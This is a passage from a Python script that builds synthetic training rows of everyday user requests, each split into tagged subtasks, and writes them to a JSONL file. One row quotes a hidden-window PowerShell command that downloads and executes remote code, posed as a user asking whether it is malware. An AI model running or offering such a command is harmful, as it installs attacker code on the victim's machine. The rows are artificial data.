code s m p => write a python script that checks my passwords file for weak ones ;; qa s l p => is it even safe to keep them in a txt | write a python script that checks my passwords file for weak ones, also is it even safe to keep them in a txt
draft g l p => make it sound friendlier first ;; translate g l p => translate to german | make it sound friendlier first, then translate to german: 'Meeting tomorrow 9am. Be on time.'
reasoning g m p => should i go back to uni at 35 ;; math g l p calc => how much would i lose in wages over 3 years on 28k | should i go back to uni at 35? and how much would i lose in wages over 3 years on 28k
summarize l l c => what is this about ;; qa l l c => can i bring my wife instead of a union rep | what is this about and can i bring my wife instead of a union rep?{HRMAIL}
extract g l p => get the times out of this ;; draft g l p => write a reminder for my calendar | get the times out of this and write a reminder for my calendar: 'dentist tue 8:40, parents evening wed 18:15, car MOT fri 12:00'
classify m l p => which of these can i buy without prescription ;; qa m l p => whats the difference between ibuprofen and naproxen | which of these can i buy without prescription: ibuprofen, amoxicillin, naproxen, omeprazole? and whats the difference between ibuprofen and naproxen
sentiment l l p => is this email threatening ;; reasoning l m p => do i need to reply | is this email threatening, do i need to reply?? 'We act for your former employer. Our client reserves all rights in relation to the confidential documents you retained.'
draft f l p => write an email asking the hotel for my deposit back ;; translate f l p => translate it to italian | write an email asking the hotel for my deposit back, then translate it to italian
qa g l p web => whats on at the cinema tonight near me ;; creative g l p => write a cute text inviting my gf | whats on at the cinema tonight near me and write a cute text inviting my gf 🎬
math f l p calc => if i invest 200 a month for 20 years at 7% what do i get ;; qa f l p => is 7% realistic | if i invest 200 a month for 20 years at 7% what do i get, and is 7% realistic?
code g l i => review this sql ;; reasoning g m i => should we add an index or just cache the results | review this sql, and should we add an index or just cache the results? SELECT * FROM orders o JOIN customers c ON c.id = o.customer_id WHERE YEAR(o.created) = 2024
qa s l p => what's smishing ;; classify s l p => is this one | what's smishing and is this one: 'Your Apple ID is suspended, verify at apple-id-verify.support'
summarize f l c => summarise it ;; reasoning l m c => is it worth taking to the ombudsman ;; draft l l c => draft the letter asking for the final response | summarise it, is it worth taking to the ombudsman, and if yes draft the letter asking for the final response{CLAIM}
chat g l p => lol im starving ;; qa g l p => how many calories in a banana | lol im starving. how many calories in a banana
draft g l p => write a leaving card message for my boss ;; creative g l p => a joke about his terrible coffee | write a leaving card message for my boss and a joke about his terrible coffee
extract f l p => pull the fees ;; reasoning f m p => tell me which account is better for me | pull the fees and tell me which account is better for me, i travel a lot: 'Account A: 0 monthly, 2.99% foreign fee. Account B: 7/month, no foreign fees, free airport lounge 2x a year.'
qa m l p => how long is chickenpox contagious ;; draft g l p => text the other mums that jamie has it | how long is chickenpox contagious? also text the other mums that jamie has it, sorry!!
translate s l p => translate into spanish ;; draft s l p => write a 3 line version for a poster | translate into spanish and write a 3 line version for a poster: 'Lock your screen when you leave your desk. Never share your password, not even with IT.'
math m l p calc => how many tablets do i need for 2 weeks ;; qa m l p => can i take them at night instead | 2 tablets 3x a day, how many tablets do i need for 2 weeks? can i take them at night instead
classify g l p => sort these emails by priority ;; draft g l p => reply to the first one | sort these emails by priority and reply to the first one: 'a) boiler service booking confirmation b) your manager: need the slides by 3pm c) newsletter: 10 tips for summer'
reasoning f m p => rent or buy in my situation ;; math f l p calc => whats the monthly on 220k over 25 years at 4.5% | rent or buy in my situation? renting at 1,200, house would be 250k with 30k saved. and whats the monthly on 220k over 25 years at 4.5%
qa l l p => can my employer make me work sundays ;; translate l l p => translate the answer to polish for my coworker | can my employer make me work sundays? translate the answer to polish for my coworker too
summarize g l i => summarise the memo ;; translate g l i => put it in french for the cleaners | summarise the memo and put it in french for the cleaners{MEMO}
sentiment m l p => how does she sound ;; draft m l p => write a kind reply | my patient left this on the feedback form, how does she sound? write a kind reply: 'the doctor was rushed and didnt listen, i left with more questions than answers'
extract s l c => pull the sender and the link out ;; draft s l c => write the report to IT | pull the sender and the link out and write the report to IT{NETFLIX}
code s l c => explain what this powershell line does ;; reasoning s m c => is it malware | explain what this powershell line does, is it malware? powershell -nop -w hidden -c "IEX(New-Object Net.WebClient).DownloadString('http://{IP9}/a')"
qa f l p => what's a pension transfer ;; reasoning f m p => should i merge my 3 old pensions ;; draft f l p => write to my old employer asking for the pension details | what's a pension transfer, should i merge my 3 old pensions, and write to my old employer asking for the pension details
qa s l p => whats a sim swap ;; draft s l p => write a message to my phone company asking them to add a pin to my account | whats a sim swap? and write a message to my phone company asking them to add a pin to my account
extract f l c => which ones are the subscriptions, just list them with the amount ;; math f l c calc => what do they cost me a year | which ones are the subscriptions, just list them with the amount. and what do they cost me a year{STATEMENT}
qa m l p => what's a normal temperature for a baby ;; chat g l p => sorry first time mum, bit panicky | what's a normal temperature for a baby? sorry first time mum, bit panicky
draft l l p => write a message to my landlord saying i'm leaving ;; math l l p calc => work out my last day if i give notice today | write a message to my landlord saying i'm leaving, 2 months notice like the contract says, and work out my last day if i give notice today (12 march)
classify s l p => which of these should i report to IT ;; draft s l p => write the report for the worst one | which of these should i report to IT: a popup saying my license expired, a colleague asking for my password on teams, an email from HR about the party? write the report for the worst one
summarize f l c => where is my money going ;; classify f l c => label each line as bills, food, fun or transport | where is my money going? label each line as bills, food, fun or transport{STATEMENT}
reasoning g m p => why is my laptop so slow lately ;; code g l p => give me a command to see whats using the memory | why is my laptop so slow lately, and give me a command to see whats using the memory (mac)
creative g l p => write a short poem about autumn ;; translate g l p => then do it in french for my class | write a short poem about autumn, then do it in french for my class
qa l l p => what does 'joint and several' mean in my tenancy ;; reasoning l m p => if my flatmate stops paying am i on the hook | what does 'joint and several' mean in my tenancy, like if my flatmate stops paying am i on the hook
"""

_BLOCKS = (FINANCE, LEGAL, MEDICAL, SECURITY, GENERAL, PII_ROWS, HARD, MULTI)


def rows() -> list[Row]:
    expand = Placeholders(_MAT, {**_PII, **_BAD})
    return line_rows(_BLOCKS, prefix="diverse4", expand=expand)


def main() -> None:
    check_lookalikes(_BAD)
    write_and_check(
        HERE / "train_diverse4.jsonl",
        rows(),
        pii_floor="task",
        scan_unmarked=True,
        card=CARD_TOKEN,  # IBAN-shaped refs hold Luhn-valid digit runs
    )


if __name__ == "__main__":
    main()
